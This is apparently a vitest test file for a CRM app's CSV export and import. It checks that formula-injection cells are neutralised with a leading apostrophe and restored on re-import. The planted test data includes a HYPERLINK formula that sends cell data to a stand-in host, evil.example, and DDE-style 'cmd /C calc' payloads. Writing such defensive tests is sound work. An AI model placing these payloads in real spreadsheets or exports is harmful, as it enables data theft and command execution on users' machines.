// Issue 17, item 5: CSV formula injection. A rep can give a contact a name or title that a
// spreadsheet runs as a formula (=HYPERLINK(…), +cmd, -2+3, @SUM, a leading tab or carriage
// return) and wait for a manager to export and open the file. Export neutralises such cells as
// OWASP recommends (a leading '); importing that file back restores the values exactly, and the
// import report says what it did — and warns, in English and Chinese, about formula-like cells
// in a file it imports.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS, parseCsv } from '../../src/domain/io/index.ts';
import { DEMO_TENANT_ID } from '../../src/seed/demo.ts';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { record } from '../resilience/_support.ts';

const PLANTED = [
  { externalId: 'INJ-1', name: '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")', title: '+cmd|\' /C calc\'!A0' },
  { externalId: 'INJ-2', name: '@SUM(1+1)*cmd|\' /C calc\'!A0', title: '-2+3+cmd|\' /C calc\'!A0' },
  { externalId: 'INJ-3', name: '\t=1+1 Tabbed', title: '\r=1+1 Returned' },
  { externalId: 'INJ-4', name: "'=already quoted", title: 'Plain -dash inside' },
];
const DANGER = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe('CSV formula injection', () => {
  let t: TestApp;
  let neutralised = 0;

  beforeAll(async () => {
    t = await startTestApp();
    const p = t.app.db.prisma;
    for (const c of PLANTED) {
      await p.contact.create({ data: { tenantId: DEMO_TENANT_ID, accountId: 'acc-acme', externalId: c.externalId, name: c.name, title: c.title, phone: c.externalId === 'INJ-1' ? '+8613800138000' : '+1 (555) 010-2030' } });
    }
  }, 60_000);

  afterAll(async () => {
    record({ suite: 'security', scenario: 'CSV formula injection neutralised on export, restored on import', refusals: neutralised, badInputs: PLANTED.length * 2 });
    await t?.stop();
  });

  const manager = async () => (await t.app.actors.byIdentity(DEMO_TENANT_ID, 'web', 'demo-manager'))!;
  const admin = async () => (await t.app.actors.byIdentity(DEMO_TENANT_ID, 'web', 'demo-admin'))!;

  it('exports no cell a spreadsheet would run as a formula', async () => {
    const csv = await t.app.services.io.exportCsv(await manager(), 'contacts');
    const [head, ...rows] = parseCsv(csv);
    expect(head!.fields).toEqual([...CSV_COLUMNS.contacts]);
    for (const r of rows) {
      for (const f of r.fields) {
        if (NUMBER.test(f)) continue; // a number is not a formula (+8613800138000)
        expect(f, `row ${r.line}`).not.toMatch(DANGER);
      }
    }
    const byId = new Map(rows.map((r) => [r.fields[0], r.fields]));
    const name = CSV_COLUMNS.contacts.indexOf('name');
    const title = CSV_COLUMNS.contacts.indexOf('title');
    for (const c of PLANTED.slice(0, 3)) {
      expect(byId.get(c.externalId)![name]).toBe(`'${c.name}`);
      expect(byId.get(c.externalId)![title]).toBe(`'${c.title}`);
      neutralised += 2;
    }
    // A value that already starts with ' before a formula character is escaped too, so that import can tell them apart.
    expect(byId.get('INJ-4')![name]).toBe("''=already quoted");
    expect(byId.get('INJ-4')![title]).toBe('Plain -dash inside');
    expect(byId.get('INJ-1')![CSV_COLUMNS.contacts.indexOf('phone')]).toBe('+8613800138000');
    expect(byId.get('INJ-2')![CSV_COLUMNS.contacts.indexOf('phone')]).toBe("'+1 (555) 010-2030");
  });

  it('imports its own export back unchanged and says so in the report', async () => {
    const csv = await t.app.services.io.exportCsv(await manager(), 'contacts');
    const p = t.app.db.prisma;
    const report = await t.app.services.io.importCsv(await admin(), 'contacts', csv);
    expect(report.imported, JSON.stringify(report.errors)).toBe(true);
    for (const c of PLANTED) {
      const stored = await p.contact.findFirstOrThrow({ where: { tenantId: DEMO_TENANT_ID, externalId: c.externalId } });
      expect(stored.name.trim()).toBe(c.name.trim());
      expect(stored.title?.trim()).toBe(c.title.trim());
    }
    const restored = report.warnings.find((w) => /leading ' that Rapport's export adds/.test(w.en));
    expect(restored, JSON.stringify(report.warnings)).toBeDefined();
    expect(restored!.zh).toMatch(/导出时添加的单引号/);
  });

  it('warns about formula-like cells in a file it imports, in English and Chinese, and stores them as written', async () => {
    const file = 'external_id,name,account_external_id,title\r\nINJ-9,=cmd|\' /C calc\'!A0,,@risky title\r\nINJ-10,Safe Name,,Engineer\r\n';
    const report = await t.app.services.io.importCsv(await admin(), 'contacts', file);
    expect(report.imported).toBe(true);
    const cols = report.warnings.map((w) => w.column).sort();
    expect(cols).toEqual(['name', 'title']);
    for (const w of report.warnings) {
      expect(w.row).toBe(2);
      expect(w.en).toMatch(/exported with a leading '/);
      expect(w.zh).toMatch(/单引号/);
    }
    const stored = await t.app.db.prisma.contact.findFirstOrThrow({ where: { tenantId: DEMO_TENANT_ID, externalId: 'INJ-9' } });
    expect(stored.name).toBe("=cmd|' /C calc'!A0");
  });
});
